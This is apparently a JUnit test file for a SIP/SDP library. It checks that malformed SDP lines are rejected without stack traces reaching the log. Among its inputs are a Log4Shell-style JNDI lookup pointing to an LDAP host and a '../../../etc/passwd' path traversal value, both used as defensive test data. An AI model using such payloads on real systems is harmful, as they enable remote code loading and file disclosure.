package io.rtc2sip.sip;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import javax.sdp.SdpException;
import org.junit.jupiter.api.Test;

/**
 * Lines the SDP library has no parser for are refused before it sees them: it prints the stack
 * trace of such a line to standard error (the node's log), once per INVITE.
 */
class SdpLinesTest {
  private static final String HEAD = "v=0\r\no=- 1 1 IN IP4 127.0.0.1\r\ns=-\r\n"
      + "c=IN IP4 127.0.0.1\r\nt=0 0\r\n";

  @Test
  void aLineOfNoSdpTypeIsRefusedAndNothingIsPrinted() throws Exception {
    PrintStream err = System.err;
    ByteArrayOutputStream printed = new ByteArrayOutputStream();
    System.setErr(new PrintStream(printed, true, StandardCharsets.UTF_8));
    try {
      for (String bad : List.of("99999999999999999999\r\n", "x=1\r\n", "A=1\r\n", "=\r\n",
          "m\r\n", "m=audio 1 RTP/AVP 8 sip:@\r\n", "m=audio 1 RTP/AVP\u00ff 8\r\n",
          "c=IN IP4 ${jndi:ldap://1.2.3.4/x}\r\n", "c=IN IP4 ../../../etc/passwd\r\n",
          "o=fuzz 1 1 IN\u00ff IP4 1.2.3.4\r\n")) {
        String sdp = HEAD + bad + "m=audio 40000 RTP/AVP 8\r\na=rtpmap:8 PCMA/8000\r\n";
        SdpException e = assertThrows(SdpException.class, () -> Sdp.read(sdp), bad);
        assertTrue(e.getMessage().startsWith("not an SDP line"), e.getMessage());
      }
    } finally {
      System.setErr(err);
    }
    assertEquals("", printed.toString(StandardCharsets.UTF_8));
    String good = HEAD + "m=audio 40000 RTP/AVP 8\r\na=rtpmap:8 PCMA/8000\r\n";
    assertEquals("PCMA", Sdp.read(good).orElseThrow().media().codec());
  }
}
